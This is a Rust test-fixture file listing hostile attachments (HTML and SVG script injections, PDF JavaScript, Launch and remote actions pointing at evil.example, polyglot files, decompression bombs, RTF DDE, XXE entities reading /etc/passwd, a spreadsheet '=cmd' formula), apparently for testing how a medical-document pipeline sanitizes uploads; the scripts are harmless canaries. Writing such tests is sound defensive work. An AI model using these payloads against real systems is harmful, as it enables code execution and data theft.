//! Attachments that somebody made to do harm, or that would by accident: each with what must become of it.
//!
//! Every script among them would set a mark on the page, change its title or ask for an address with [`CANARY`] in it.

use super::pdf;

/// What a script that ran would ask for.
pub const CANARY: &str = "canary-fired";
const SCRIPT: &str = "document.title='canary-fired';window.fired=1;fetch('/canary-fired')";

/// What becomes of it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Fate {
    /// It leaves as it is, as a file that the browser saves under this ending.
    Shown(&'static str),
    /// It leaves as a page of ours.
    Carried,
    /// It waits for a person, who is told this.
    Kept(&'static str),
}

pub struct Hostile {
    pub name: &'static str,
    pub declared: &'static str,
    pub bytes: Vec<u8>,
    pub fate: Fate,
}

/// All of them.
pub fn all() -> Vec<Hostile> {
    [pages(), pdfs(), pictures(), programs_and_archives(), documents(), texts()].concat_all()
}

trait Concat {
    fn concat_all(self) -> Vec<Hostile>;
}

impl<const N: usize> Concat for [Vec<Hostile>; N] {
    fn concat_all(self) -> Vec<Hostile> {
        self.into_iter().flatten().collect()
    }
}

fn one(name: &'static str, declared: &'static str, bytes: impl Into<Vec<u8>>, fate: Fate) -> Hostile {
    Hostile { name, declared, bytes: bytes.into(), fate }
}

/// HTML, SVG and XML under every name.
fn pages() -> Vec<Hostile> {
    let page = format!(
        "<!DOCTYPE html><html><head><title>x</title></head><body><script>{SCRIPT}</script>Sodium 140</body></html>"
    );
    let handler = format!("<!DOCTYPE html><html><body><p onclick=\"{SCRIPT}\">Sodium 140</p></body></html>");
    let picture = format!("<!DOCTYPE html><html><body><p>Sodium 140</p><img src=x onerror=\"{SCRIPT}\"></body></html>");
    let frame = "<!DOCTYPE html><html><body><p>Sodium 140</p><iframe src='https://evil.example/canary-fired'></iframe></body></html>";
    let address =
        "<!DOCTYPE html><html><body><p><a href='javascript:fetch(\"/canary-fired\")'>Sodium 140</a></p></body></html>";
    let refresh = "<!DOCTYPE html><html><head><meta http-equiv=refresh content='0;url=https://evil.example/canary-fired'></head><body><p>Sodium 140</p></body></html>";
    let styled = "<!DOCTYPE html><html><head><style>@import url('https://evil.example/canary-fired');</style></head><body><p>Sodium 140</p></body></html>";
    let form = "<!DOCTYPE html><html><body><form action='https://evil.example/'><input name=pin></form></body></html>";
    let svg = format!("<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"><script>{SCRIPT}</script></svg>");
    let xslt = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/canary-fired'?><a/>";
    let xhtml = format!(
        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>{SCRIPT}</script></body></html>"
    );
    let kept = Fate::Kept("cannot be carried over");
    let not_said = Fate::Kept("a web page");
    vec![
        one("html-script", "text/html", page.clone(), kept),
        one("html-handler", "text/html", handler, kept),
        one("html-image", "text/html", picture, kept),
        one("html-frame", "text/html", frame, kept),
        one("html-javascript-address", "text/html", address, kept),
        one("html-refresh", "text/html", refresh, kept),
        one("html-import", "text/html", styled, kept),
        one("html-form", "text/html", form, kept),
        one("html-as-pdf", "application/pdf", page.clone(), not_said),
        one("html-as-text", "text/plain", page.clone(), not_said),
        one("html-as-nothing", "", page.clone(), not_said),
        one("html-as-picture", "image/png", page, not_said),
        one("svg", "image/svg+xml", svg.clone(), Fate::Kept("an SVG picture")),
        one("svg-as-png", "image/png", svg.clone(), Fate::Kept("an SVG picture")),
        one("svg-as-html", "text/html", svg, kept),
        one("xml-stylesheet", "application/xml", xslt, Fate::Kept("XML")),
        one("xhtml", "application/xhtml+xml", xhtml, kept),
    ]
}

/// One page saying "Sodium 140", with this in its catalogue.
fn pdf_with(catalogue: &str) -> Vec<u8> {
    let plain = String::from_utf8(pdf::with_pages(&["Sodium 140"])).expect("ASCII");
    plain.replacen("/Type /Catalog", &format!("/Type /Catalog {catalogue}"), 1).into_bytes()
}

fn pdfs() -> Vec<Hostile> {
    let shown = Fate::Shown("pdf");
    let plain = pdf::with_pages(&["Sodium 140"]);
    let script = format!("/OpenAction << /S /JavaScript /JS ({}) >>", SCRIPT.replace('(', "\\(").replace(')', "\\)"));
    let name_tree = "/Names << /JavaScript << /Names [ (a) << /S /JavaScript /JS (app.launchURL\\('https://evil.example/canary-fired'\\)) >> ] >> >>";
    let with = |before: &[u8], after: &[u8]| [before, &plain, after].concat();
    vec![
        one("pdf-javascript", "application/pdf", pdf_with(&script), shown),
        one("pdf-named-javascript", "application/pdf", pdf_with(name_tree), shown),
        one("pdf-launch", "application/pdf", pdf_with("/OpenAction << /S /Launch /F (calc.exe) >>"), shown),
        one(
            "pdf-uri",
            "application/pdf",
            pdf_with("/OpenAction << /S /URI /URI (https://evil.example/canary-fired) >>"),
            shown,
        ),
        one(
            "pdf-submit",
            "application/pdf",
            pdf_with("/OpenAction << /S /SubmitForm /F (https://evil.example/canary-fired) >>"),
            shown,
        ),
        one(
            "pdf-remote-go-to",
            "application/pdf",
            pdf_with("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0] >>"),
            shown,
        ),
        one(
            "pdf-file-inside",
            "application/pdf",
            pdf_with("/Names << /EmbeddedFiles << /Names [ (a.exe) << /F (a.exe) /EF << /F 5 0 R >> >> ] >> >>"),
            shown,
        ),
        one(
            "pdf-xfa",
            "application/pdf",
            pdf_with("/AcroForm << /XFA 5 0 R /Fields [] >> /NeedsRendering true"),
            shown,
        ),
        one("pdf-and-archive", "application/pdf", with(b"", b"PK\x03\x04\x14\0\0\0\0\0"), shown),
        one(
            "pdf-behind-junk",
            "application/pdf",
            with(b"MZ\x90\0 not a program\n", b""),
            Fate::Kept("a Windows program"),
        ),
        one(
            "pdf-and-page",
            "application/pdf",
            with(format!("<html><script>{SCRIPT}</script>").as_bytes(), b""),
            Fate::Kept("a web page"),
        ),
        one(
            "pdf-with-page-inside",
            "application/pdf",
            with(b"%PDF-1.4\n%<script>", b""),
            Fate::Kept("a PDF with markup"),
        ),
        one("pdf-as-text", "text/plain", plain.clone(), shown),
        one("pdf-as-html", "text/html", plain, shown),
    ]
}

fn pictures() -> Vec<Hostile> {
    let page = format!("<html><script>{SCRIPT}</script></html>");
    let png = |after: &[u8]| {
        // One grey pixel.
        let head: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0:~\x9bU\0\0\0\nIDATx\x9cc`\0\0\0\x02\0\x01H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82";
        [head, after].concat()
    };
    let bomb = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x06\0\0\0\0\0\0\0";
    let jpeg = [b"\xff\xd8\xff\xfe\x00\x40", page.as_bytes()].concat();
    vec![
        one("png-and-page", "image/png", png(page.as_bytes()), Fate::Shown("png")),
        one("png-as-html", "text/html", png(b""), Fate::Shown("png")),
        one("png-bomb", "image/png", bomb.as_slice(), Fate::Shown("png")),
        one("jpeg-and-page", "image/jpeg", jpeg, Fate::Shown("jpg")),
        one("gif", "image/gif", format!("GIF89a/*{page}*/").into_bytes(), Fate::Kept("a GIF picture")),
        one("webp", "image/webp", b"RIFF\x10\0\0\0WEBPVP8 ".as_slice(), Fate::Kept("a WebP picture")),
        one("tiff", "image/tiff", [b"II*\0\x08\0\0\0".as_slice(), &[0; 64]].concat(), Fate::Kept("a TIFF picture")),
        one(
            "dicom",
            "application/dicom",
            [&[0_u8; 128][..], b"DICM\x02\0\0\0UL\x04\0"].concat(),
            Fate::Kept("a DICOM image"),
        ),
    ]
}

fn programs_and_archives() -> Vec<Hostile> {
    vec![
        one(
            "exe",
            "application/pdf",
            b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".as_slice(),
            Fate::Kept("a Windows program"),
        ),
        one(
            "elf",
            "application/octet-stream",
            [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 64]].concat(),
            Fate::Kept("a program"),
        ),
        one("zip", "application/pdf", b"PK\x03\x04\x14\0\0\0\x08\0".as_slice(), Fate::Kept("an archive")),
        one(
            "gzip-bomb",
            "application/pdf",
            b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xed\xc1".as_slice(),
            Fate::Kept("an archive"),
        ),
        one("7z", "application/pdf", b"7z\xbc\xaf\x27\x1c\0\x04".as_slice(), Fate::Kept("an archive")),
        one("rar", "application/pdf", b"Rar!\x1a\x07\x01\0".as_slice(), Fate::Kept("an archive")),
        one("script", "application/javascript", SCRIPT, Fate::Kept("neither PDF")),
        one("script-as-text", "text/plain", SCRIPT, Fate::Shown("txt")),
        one(
            "macro-document",
            "application/msword",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0".as_slice(),
            Fate::Kept("an old Office document"),
        ),
        one("empty", "application/pdf", b"".as_slice(), Fate::Kept("")),
    ]
}

/// RTF and CDA.
fn documents() -> Vec<Hostile> {
    let cda = |inside: &str, text: &str| {
        format!(
            "<?xml version=\"1.0\"?>{inside}<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><recordTarget><patientRole><patient><name>\
             <given>Ana</given><family>Garcia</family></name></patient></patientRole></recordTarget><component><structuredBody><component><section>\
             <title>Results</title><text>{text}</text></section></component></structuredBody></component></ClinicalDocument>"
        )
    };
    let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>";
    let outside = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>";
    let kept = Fate::Kept("cannot be carried over");
    vec![
        one("rtf-object", "application/rtf", r"{\rtf1\ansi Sodium 140 {\object\objemb{\*\objdata 0105}}}", kept),
        one(
            "rtf-template",
            "application/rtf",
            r"{\rtf1\ansi{\*\template https://evil.example/canary-fired} Sodium 140}",
            Fate::Carried,
        ),
        one(
            "rtf-dde",
            "application/rtf",
            r#"{\rtf1\ansi Sodium {\field{\*\fldinst DDEAUTO c:\\x "calc"}{\fldrslt 140}}}"#,
            kept,
        ),
        one("rtf-hidden", "application/rtf", r"{\rtf1\ansi Sodium {\v not }140}", kept),
        one("cda-laughs", "text/xml", cda(laughs, "<paragraph>&c;</paragraph>"), kept),
        one("cda-outside", "text/xml", cda(outside, "<paragraph>&a;</paragraph>"), kept),
        one("cda-script", "text/xml", cda("", "<paragraph>Sodium 140</paragraph><script>x</script>"), kept),
        one(
            "cda-javascript-address",
            "text/xml",
            cda(
                "",
                "<paragraph><linkHtml href=\"javascript:fetch('/canary-fired')\">Sodium 140</linkHtml></paragraph>",
            ),
            Fate::Carried,
        ),
    ]
}

fn texts() -> Vec<Hostile> {
    let mail = format!("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><script>{SCRIPT}</script></html>");
    vec![
        one("text-turned", "text/plain", "Sodium \u{202e}041\u{202c} mmol/l", Fate::Kept("turn letters round")),
        one("text-escapes", "text/plain", "Sodium \x1b[8m140\x1b[0m", Fate::Kept("neither PDF")),
        one("text-zero", "text/plain", "Sodium\u{0}140", Fate::Kept("neither PDF")),
        one("text-utf-16", "text/plain", b"\xff\xfeS\0o\0d\0i\0u\0m\0".as_slice(), Fate::Kept("neither PDF")),
        one(
            "text-utf-7",
            "text/plain; charset=utf-7",
            "+ADw-script+AD4-fetch('/canary-fired')+ADw-/script+AD4-",
            Fate::Shown("txt"),
        ),
        one("mail", "message/rfc822", mail.clone(), Fate::Kept("a web page")),
        one("mail-as-text", "text/plain", mail, Fate::Kept("a web page")),
        one("table-formula", "text/plain", "=cmd|'/c calc'!A1", Fate::Shown("txt")),
    ]
}
